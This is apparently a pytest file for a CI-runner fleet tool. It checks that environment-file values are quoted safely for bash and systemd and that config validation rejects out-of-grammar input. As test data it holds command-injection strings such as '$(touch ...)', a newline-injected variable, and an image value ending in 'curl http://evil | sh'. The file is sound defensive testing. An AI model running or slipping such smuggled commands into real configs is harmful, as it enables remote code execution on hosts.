"""host.env reaches two readers: the bootstrap scripts `.` it in bash (as root) and the agent's
unit reads it with systemd's EnvironmentFile=. Every value is single-quoted where the template
writes it, which both read literally; config validation keeps every value inside its grammar,
and the renderer refuses what single quotes cannot hold (a quote, a newline).

The systemd side is systemd's own parser: `load_env_file()` from libsystemd-shared, the
function PID 1 calls for EnvironmentFile= (installed with systemd; Debian/Ubuntu ship it).
"""

from __future__ import annotations

import ctypes
import glob
import re
import subprocess
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from runnerfleet.agent.userdata import (
    HostSettings,
    TemplateError,
    render_user_data,
    settings_from_config,
)
from runnerfleet.cli import app
from runnerfleet.config import ConfigError, validate

HOST_ENV = "/etc/runnerfleet/host.env"
# Valid, but as unfriendly to a shell as the grammars allow: glob brackets, colons (tilde
# expansion after ':' in assignments), '@', '+', runs of '-' and '_', leading '-' and '.'.
HOSTILE_IMAGE = "[::1]:5000/a__b/c-d.e/f---g:_Tag-1.x@sha256+b64u.x:" + "ab" * 32
HOSTILE_LABELS = ["-x", ".", "_", "a..b", "A-Z_0.9"]
HOSTILE_CONFIG = f"""\
name = "a-0"
[aws]
region = "us-gov-west-1"
[network]
availability_zones = ["us-gov-west-1a"]
[runners]
mode = "autoscaled"
ephemeral = true
app_image = "{HOSTILE_IMAGE}"
labels = {HOSTILE_LABELS!r}
[[runners.pools]]
name = "0-p"
labels = ["-"]
""".replace("'", '"')


def _host_env(doc_text: str) -> str:
    doc = yaml.safe_load(doc_text)
    content: str = next(f["content"] for f in doc["write_files"] if f["path"] == HOST_ENV)
    return content


def _written(host_env: str) -> dict[str, str]:
    """The assignments as the template wrote them (quotes included)."""
    pairs = (ln.split("=", 1) for ln in host_env.splitlines() if ln and not ln.startswith("#"))
    return dict(pairs)


def read_by_bash(path: Path) -> dict[str, str]:
    """What a root script that sources the file (`set -a; . host.env`) sees."""
    script = 'set -euo pipefail; set -a; . "$1"; set +a; env -0'
    argv = ["bash", "-c", script, "bash", str(path)]
    env = {"PATH": "/usr/bin:/bin"}
    out = subprocess.run(argv, cwd=path.parent, env=env, capture_output=True, check=True).stdout
    pairs = (item.split(b"=", 1) for item in out.split(b"\0") if item)
    return {k.decode(): v.decode() for k, v in pairs}


def read_by_systemd(path: Path) -> dict[str, str]:
    """What EnvironmentFile= gives the agent: systemd's own env-file parser."""
    found = sorted(glob.glob("/usr/lib/*/systemd/libsystemd-shared-*.so"))
    found += sorted(glob.glob("/usr/lib/systemd/libsystemd-shared-*.so"))
    if not found:
        pytest.fail("libsystemd-shared is missing (it comes with the systemd package); install it")
    lib = ctypes.CDLL(found[0])
    load = lib.load_env_file
    strv = ctypes.POINTER(ctypes.c_char_p)
    load.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.POINTER(strv)]
    load.restype = ctypes.c_int
    ret = strv()
    rc = load(None, str(path).encode(), ctypes.byref(ret))
    assert rc == 0, f"systemd could not parse {path}: {rc}"
    out: dict[str, str] = {}
    i = 0
    while (item := ret[i]) is not None:
        key, value = item.decode().split("=", 1)
        out[key] = value
        i += 1
    return out


def _expected(settings: HostSettings) -> dict[str, str]:
    v = settings.variables()
    return {
        "RUNNERFLEET_NAME": str(v["name"]),
        "RUNNERFLEET_REGION": str(v["region"]),
        "RUNNERFLEET_POOL": str(v["pool"]),
        "RUNNERFLEET_RUNNER_LABELS": str(v["runner_labels"]),
        "RUNNERFLEET_APP_IMAGE": str(v["app_image"]),
        "RUNNERFLEET_REGISTRATION_PARAMETER_PREFIX": str(v["registration_parameter_prefix"]),
        "RUNNERFLEET_RUNNER_NAME_PREFIX": str(v["runner_name_prefix"]),
        "RUNNERFLEET_AGENT_KEY": str(v["agent_key"]),
        "AWS_DEFAULT_REGION": str(v["region"]),
    }


def test_every_value_is_single_quoted_where_written() -> None:
    settings = settings_from_config(name="rf", region="us-east-1", runner_version="2.329.0",
                                    labels=[], ephemeral=False, app_image="nginx")  # fmt: skip
    written = _written(_host_env(render_user_data(settings)))
    assert len(written) >= 17
    for key, value in written.items():
        assert len(value) >= 2 and value[0] == value[-1] == "'", f"{key}={value} is not quoted"
        assert "'" not in value[1:-1], f"{key}={value}"


def test_hostile_but_valid_config_values_are_read_back_intact(tmp_path: Path) -> None:
    """The values config validation accepts, rendered by `runnerfleet render user-data`,
    come back byte for byte from both readers."""
    cfg = tmp_path / "runnerfleet.toml"
    cfg.write_text(HOSTILE_CONFIG)
    result = CliRunner().invoke(app, ["render", "user-data", "-c", str(cfg)], env={})
    assert result.exit_code == 0, result.output
    host_env = tmp_path / "host.env"
    host_env.write_text(_host_env(result.stdout))
    expected = {
        "RUNNERFLEET_NAME": "a-0",
        "RUNNERFLEET_REGION": "us-gov-west-1",
        "RUNNERFLEET_POOL": "0-p",
        "RUNNERFLEET_APP_IMAGE": HOSTILE_IMAGE,
        "RUNNERFLEET_RUNNER_LABELS": ",".join(
            ["self-hosted", "linux", "x64", *HOSTILE_LABELS, "-"]
        ),
        "RUNNERFLEET_EPHEMERAL": "true",
        "AWS_DEFAULT_REGION": "us-gov-west-1",
    }
    for read in (read_by_bash, read_by_systemd):
        got = read(host_env)
        assert {k: got.get(k) for k in expected} == expected, read.__name__
    assert read_by_bash(host_env).items() >= read_by_systemd(host_env).items()


# Values no validator lets through: if one ever got past validation, the quoting still holds.
ESCAPES = {
    "app_image": "nginx:1; touch PWNED_A #",
    "runner_labels": "self-hosted,$(touch PWNED_B),`touch PWNED_C`",
    "pool": 'a b\\c"d$HOME${PATH}',
    "agent_key": "  spaced  \t*?[a]~:~/x",
}


def test_values_past_the_validators_still_read_back_literally(tmp_path: Path) -> None:
    base = settings_from_config(name="rf", region="us-east-1", runner_version="2.329.0",
                                labels=[], ephemeral=True, app_image="nginx")  # fmt: skip
    settings = HostSettings(**{**base.variables(), **ESCAPES})  # type: ignore[arg-type]
    host_env = tmp_path / "host.env"
    host_env.write_text(_host_env(render_user_data(settings)))
    for read in (read_by_bash, read_by_systemd):
        got = read(host_env)
        assert {k: got.get(k) for k in _expected(settings)} == _expected(settings), read.__name__
    assert not list(tmp_path.glob("PWNED*")), "a value was run as a command"


@pytest.mark.parametrize("bad", ["nginx'; touch x; '", "nginx\nEVIL=1", "nginx\0"])
def test_what_single_quotes_cannot_hold_is_refused_by_the_renderer(bad: str) -> None:
    base = settings_from_config(name="rf", region="us-east-1", runner_version="2.329.0",
                                labels=[], ephemeral=True, app_image="nginx")  # fmt: skip
    with pytest.raises(TemplateError, match="app_image"):
        render_user_data(HostSettings(**{**base.variables(), "app_image": bad}))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"runners": {"app_image": "nginx:1; curl http://evil | sh"}}, "runners.app_image"),
        ({"runners": {"app_image": "nginx:1'"}}, "runners.app_image"),
        ({"runners": {"app_image": "nginx:$(id)"}}, "runners.app_image"),
        ({"runners": {"app_image": "nginx:t\u00e6g"}}, "runners.app_image"),  # tags are ASCII
        ({"runners": {"app_image": "nginx\n"}}, "runners.app_image"),
        ({"runners": {"labels": ["a b"]}}, "runners.labels"),
        ({"runners": {"labels": ["x'"]}}, "runners.labels"),
        ({"runners": {"labels": ["$x"]}}, "runners.labels"),
        ({"runners": {"runner_version": "2.329.0\n"}}, "runners.runner_version"),
        (
            {"runners": {"runner_version": "2.\u0663\u0662\u0669.0", "runner_sha256": "a" * 64}},
            "runners.runner_version",
        ),  # Arabic-Indic digits are \d to Python, not to a runner release
        ({"name": "rf'"}, "name"),
        ({"name": "rf\n"}, "name"),
        ({"aws": {"region": "us-east-1'"}}, "aws.region"),
        (
            {"runners": {"mode": "autoscaled", "pools": [{"name": "p;q"}]}},
            "runners.pools",
        ),
    ],
    ids=lambda v: repr(v)[:40] if isinstance(v, dict) else v,
)
def test_values_outside_their_grammar_are_refused_by_validation(
    data: dict[str, object], field: str
) -> None:
    with pytest.raises(ConfigError) as exc:
        validate({"name": "rf-ok", **data})
    fields = [f for f, _ in exc.value.problems]
    assert any(f.startswith(field) for f in fields), (fields, str(exc.value))


def test_the_stack_validates_app_image_with_the_same_grammar() -> None:
    """Terraform renders the template too (templatefile, without runnerfleet's config): the
    stack's app_image validation is the config's image grammar, character for character."""
    from runnerfleet.config import IMAGE_RE

    root = Path(__file__).resolve().parents[3]
    text = (root / "infra/stacks/ec2-runner/variables.tf").read_text()
    block = text.split('variable "app_image" {', 1)[1].split("\n}\n", 1)[0]
    m = re.search(r'can\(regex\("((?:[^"\\]|\\.)*)", var\.app_image\)\)', block)
    assert m, "infra/stacks/ec2-runner/variables.tf: app_image has no regex validation"
    hcl = m.group(1).replace("\\\\", "\\")
    assert hcl == f"^{IMAGE_RE.pattern}$"
